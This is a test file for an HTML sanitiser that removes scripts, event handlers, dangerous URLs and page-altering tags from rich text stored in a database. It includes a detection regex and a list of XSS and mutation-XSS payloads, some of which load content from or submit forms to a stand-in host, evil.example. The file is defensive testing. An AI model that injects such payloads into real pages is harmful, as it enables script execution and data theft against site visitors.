import { describe, expect, it } from 'vitest';
import { richText } from './rich-text';

/** What could run, load from elsewhere, send away or change the look of the page. */
const dangerous =
  /<script|<style|<iframe|<object|<embed|<form|<input|<svg|<math|<base|<meta|<link|<template|<video|\son\w+\s*=|javascript:|data:|vbscript:|style=|srcset|src="(?:https?:)?\/\//i;

const hostile: readonly string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<p onclick="alert(1)">x</p>',
  '<img src=x onerror=alert(1)>',
  '<img src="//evil.example/pixel.gif">',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="/\\evil.example/pixel.gif">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>body{display:none}</style>',
  '<p style="position:fixed;inset:0">x</p>',
  '<form action="https://evil.example/"><input name="a"></form>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<p title="\u2028" onmouseover=alert(1)>x</p>',
  '<div id="content" class="shell">x</div>',
  '<h2 id="x"><img src=x onerror=alert(1)></h2>',
  '<details ontoggle=alert(1) open>x</details>',
  '<video src="https://evil.example/x.mp4" onerror=alert(1)></video>',
  '<a href="x" id="a b" role="button">x</a>',
];

describe('a text of the database', () => {
  it.each(hostile)('is harmless: %j', (html) => {
    const made = richText(html);
    expect(made).not.toMatch(dangerous);
    expect(richText(made)).toBe(made);
  });

  it('takes no class, no name and no role of the page around it', () => {
    expect(richText('<div id="content" class="shell" role="main">x</div>')).toBe('<div>x</div>');
  });

  it('is cut where it is nested without end', () => {
    expect(richText('<div>'.repeat(5000)).length).toBeLessThan(2000);
  });

  it.each([
    ['<p>Soft <strong>handle</strong>, 14<sup>oz</sup></p>', '<p>Soft <strong>handle</strong>, 14<sup>oz</sup></p>'],
    ['<h1>One</h1>', '<h2 id="one">One</h2>'],
    [
      '<h2>Warp &amp; weft</h2><h2>Warp, weft</h2>',
      '<h2 id="warp-weft">Warp &amp; weft</h2><h2 id="warp-weft-2">Warp, weft</h2>',
    ],
    ['<h3>克从哪里来</h3>', '<h3 id="克从哪里来">克从哪里来</h3>'],
    ['<h2>14 oz</h2>', '<h2 id="part-14-oz">14 oz</h2>'],
    ['<h2 id="own">Own</h2>', '<h2 id="own">Own</h2>'],
    ['<a href="/about-us">us</a>', '<a href="/about-us">us</a>'],
    ['<a href="https://x.example/">x</a>', '<a href="https://x.example/" rel="noopener nofollow">x</a>'],
    [
      '<img src="/p1/2-a.webp" alt="Cloth" width="640" height="480">',
      '<img src="/p1/2-a.webp" alt="Cloth" width="640" height="480" loading="lazy" decoding="async" />',
    ],
    [
      '<p>Six dips<sup id="r1"><a href="#n1" role="doc-noteref">1</a></sup></p><ol><li id="n1">Or seven.</li></ol>',
      '<p>Six dips<sup id="r1"><a href="#n1" role="doc-noteref">1</a></sup></p><ol><li id="n1">Or seven.</li></ol>',
    ],
    [
      '<table><tr><td>1</td></tr></table>',
      '<div class="table-frame" tabindex="0" role="group"><table><tr><td>1</td></tr></table></div>',
    ],
  ])('%s is shown as %s', (html, shown) => {
    expect(richText(html)).toBe(shown);
    expect(richText(shown)).toBe(shown);
  });
});
